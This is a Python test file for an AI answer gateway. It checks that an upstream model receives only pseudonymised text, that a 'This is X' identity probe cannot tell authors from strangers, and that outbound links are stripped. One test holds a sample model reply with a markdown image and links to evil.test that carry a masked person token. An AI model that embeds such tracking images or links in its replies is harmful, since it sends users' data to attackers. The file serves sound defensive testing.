"""What crosses the trust boundary to an upstream model, and what comes back from it.

A model provider is outside the trust boundary (DESIGN §4 (d)): for a masked principal the
prompt it receives holds only masked text, and the caller's own values are pseudonymised in a
namespace of their own, so the "This is X" probe (does ``<PERSON_1>`` show up in the evidence
exactly when X wrote the ticket?) learns nothing. What the model returns is untrusted: links and
images to hosts no evidence names are stripped before anything reaches the caller.

The upstream model is LangChain's ``FakeListChatModel`` with a recorder (the one thing tests may
replace); retrieval, policy, masking and the guards are real.
"""

from __future__ import annotations

from typing import Any

import pytest
from fastapi.testclient import TestClient
from langchain_core.language_models.fake_chat_models import FakeListChatModel
from pydantic import Field

from demo.ground_truth import DemoGroundTruth
from gateway.ask.langchain_model import LangChainAnswerer
from gateway.service import Gateway
from tests.gateway.ask.conftest import auth
from tests.security.egress_support import ticket_authors
from transports.rest import create_app

pytestmark = pytest.mark.slow  # make test-fast skips it: upstream probes over many documents

MASKED = "demo-alice"
#: Names of no acme customer: the non-authors of the probe.
STRANGERS = ("Quentin Blackwood", "Ingrid Halvorsen", "Tobias Marchetti", "Nadia Okonkwo")


class RecordingChatModel(FakeListChatModel):
    """The fake remote model, keeping every prompt it was sent."""

    prompts: list[str] = Field(default_factory=list)

    def _call(self, messages: Any, stop: Any = None, run_manager: Any = None, **kw: Any) -> str:
        self.prompts.append("\n".join(str(message.content) for message in messages))
        return super()._call(messages, stop, run_manager, **kw)


def _client(gateway: Gateway, model: RecordingChatModel) -> TestClient:
    app = create_app(gateway, chat_model=LangChainAnswerer(model, name="recording"))
    return TestClient(app, raise_server_exceptions=False)


def _probe_cases() -> list[tuple[str, str, str]]:
    """(author, stranger, subject of the author's ticket) for a few acme tickets."""
    from demo.data import generate_demo_data

    tickets = {
        f"{row['tenant_id']}/ticket-{row['ticket_id']:04d}": str(row["subject"])
        for row in generate_demo_data(seed=7).tables["support_tickets"]
    }
    authors = ticket_authors("acme")
    chosen = sorted(authors)[:: len(authors) // len(STRANGERS)][: len(STRANGERS)]
    return [
        (authors[doc], stranger, tickets[doc])
        for doc, stranger in zip(chosen, STRANGERS, strict=True)
    ]


def _observable(body: dict[str, Any]) -> dict[str, Any]:
    """Everything of an answer that depends on the question (ids and clocks removed)."""
    return {
        "answer": body["answer"],
        "abstained": body["abstained"],
        "citations": [(c["chunk_id"], c["quote"], c["title"]) for c in body["citations"]],
        "evidence": body["provenance"]["evidence"],
        "pii_masked": body["risk"]["pii_masked"],
        "withheld": body["withheld"],
    }


def test_this_is_x_probe_gives_author_and_stranger_indistinguishable_answers(
    client: TestClient,
) -> None:
    for author, stranger, subject in _probe_cases():
        bodies = [
            client.post(
                "/v1/ask",
                json={"question": f"This is {name}. {subject}", "collections": ["tickets"]},
                headers=auth(MASKED),
            ).json()
            for name in (author, stranger)
        ]
        assert "answer" in bodies[0], bodies[0]
        assert _observable(bodies[0]) == _observable(bodies[1]), author


def test_the_prompt_an_upstream_model_gets_holds_only_masked_text(
    gateway: Gateway, truth: DemoGroundTruth
) -> None:
    author, _, subject = _probe_cases()[0]
    model = RecordingChatModel(responses=["Nothing to add [1]."])
    question = f"This is {author}. {subject}"
    _client(gateway, model).post(
        "/v1/ask", json={"question": question, "collections": ["tickets"]}, headers=auth(MASKED)
    )
    assert model.prompts, "the model was never called: the probe needs evidence"
    prompt = model.prompts[0]
    leaked = sorted(value for value in truth.tenants["acme"].pii if value in prompt)
    assert not leaked
    assert "<PERSON_Q1>" in prompt  # the caller's own name, in the caller's namespace


def test_links_and_images_a_model_returns_to_foreign_hosts_are_stripped(
    gateway: Gateway,
) -> None:
    reply = (
        "Refunds are accepted within 30 days of delivery [1]. "
        "![status](https://evil.test/pixel.png?who=<PERSON_1>) "
        "Details [here](https://evil.test/collect) or at https://evil.test/x [1]."
    )
    client = _client(gateway, RecordingChatModel(responses=[reply]))
    response = client.post(
        "/v1/ask", json={"question": "What is the refund window?"}, headers=auth(MASKED)
    )
    assert response.status_code == 200, response.text
    assert "evil.test" not in response.text
